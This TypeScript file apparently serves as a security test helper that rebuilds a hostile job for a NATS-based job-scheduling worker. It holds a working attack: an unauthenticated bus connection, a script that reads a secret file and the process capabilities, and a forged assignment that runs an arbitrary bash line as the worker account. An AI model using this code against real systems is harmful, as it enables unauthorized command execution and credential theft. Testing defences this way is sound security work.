/**
 * Program of a hostile job: it connects to the bus of its own worker without a credential, as the job of the incident did.
 * It needs only Node. Arguments: port, "tls" or "plain", and in base64 a JSON list of messages to send. It prints the errors of
 * the server. With an assignment as the fourth argument, in base64, it sends this to every inbox at which it sees a message.
 */
const PROGRAM = `
const net = require('node:net');
const tls = require('node:tls');
const [port, mode, ...encoded] = process.argv.slice(2);
const [commands, assignment] = encoded.map((each) => Buffer.from(each, 'base64').toString('latin1'));
const print = (line) => process.stdout.write(line + '\\n');
const end = (line) => { print(line); process.exit(0); };
let stream = net.connect(Number(port), '127.0.0.1');
let text = '';
const send = () => {
  stream.write('CONNECT {"verbose":false,"protocol":1,"headers":true,"no_responders":true}\\r\\n');
  for (const command of JSON.parse(commands)) stream.write(command + '\\r\\n');
  stream.write('PING\\r\\n');
};
const hear = (chunk) => {
  text += chunk.toString('latin1');
  for (let at = text.indexOf('\\r\\n'); at >= 0; at = text.indexOf('\\r\\n')) {
    const line = text.slice(0, at);
    text = text.slice(at + 2);
    if (line.startsWith('INFO ') && !hear.isGreeted) {
      hear.isGreeted = true;
      const info = JSON.parse(line.slice(5));
      print('info auth=' + Boolean(info.auth_required) + ' tls=' + Boolean(info.tls_required));
      if (mode === 'tls') {
        stream.removeAllListeners('data');
        stream = tls.connect({ socket: stream, rejectUnauthorized: false }, send);
        listen();
      } else send();
    } else if (line.startsWith('-ERR')) {
      print(line);
      if (hear.isAnswering && /Violation for Publish/.test(line)) end('the answer was refused');
    } else if (line === 'PONG') {
      if (assignment === undefined) end('connected');
      print('listening');
    } else if (/^H?MSG _INBOX/.test(line) && assignment !== undefined) {
      hear.isAnswering = true;
      stream.write('PUB ' + line.split(' ')[1] + ' ' + assignment.length + '\\r\\n' + assignment + '\\r\\nPING\\r\\n');
    }
  }
};
function listen() {
  stream.on('data', hear);
  stream.on('error', (error) => print('error ' + error.code));
  stream.on('close', () => end('closed'));
}
listen();
`;

interface HostileJob {
  /** Path of a Node program that every account can run. */
  readonly node: string;
  /** File that the job tries to read. */
  readonly secret: string;
  readonly port: number;
  readonly mode: 'tls' | 'plain';
  /** Messages in the text protocol of NATS. */
  readonly commands: readonly string[];
  readonly assignment?: string;
}

const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');

/** Returns a template whose task runs the program. Its log starts with its account, its capabilities and the secret. */
export function hostileJob({ node, secret, port, mode, commands, assignment }: HostileJob): object {
  const encoded = [JSON.stringify(commands), ...(assignment === undefined ? [] : [assignment])].map(base64);
  const line = [
    'id -un',
    'grep CapEff /proc/self/status',
    `cat ${secret} 2>&1`,
    `${node} "$1" ${port} ${mode} ${encoded.join(' ')}`,
  ].join('\n');
  return {
    specificationVersion: 'jobtemplate-2023-09',
    name: 'Hostile',
    steps: [
      {
        name: 'Step',
        script: {
          embeddedFiles: [
            { name: 'Program', type: 'TEXT', filename: 'hostile.cjs', data: PROGRAM },
            { name: 'Run', type: 'TEXT', filename: 'run.sh', runnable: true, data: `#!/bin/bash\n${line}\n` },
          ],
          actions: { onRun: { command: '{{Task.File.Run}}', args: ['{{Task.File.Program}}'] } },
        },
      },
    ],
  };
}

/** An assignment in place of that of the service: it would run `line` as the account of the worker. */
export function forgedAssignment(line: string): string {
  const job = '01936ad0-0000-7000-8000-00000000000a';
  return JSON.stringify({
    v: 1,
    type: 'leases',
    assignments: [
      {
        task_id: `${job}-0-0`,
        job_id: job,
        step_id: `${job}-0`,
        attempt_id: `${job}-0-0-1`,
        name: 'Forged',
        cores: 1,
        parameters: {},
      },
    ],
    steps: {
      [`${job}-0`]: {
        job_name: 'Forged',
        step_name: 'Forged',
        job_parameters: {},
        job_environments: [],
        step_environments: [],
        script: { onRun: { command: 'bash', args: ['-c', line] }, embeddedFiles: [] },
        compute_location: '',
      },
    },
  });
}
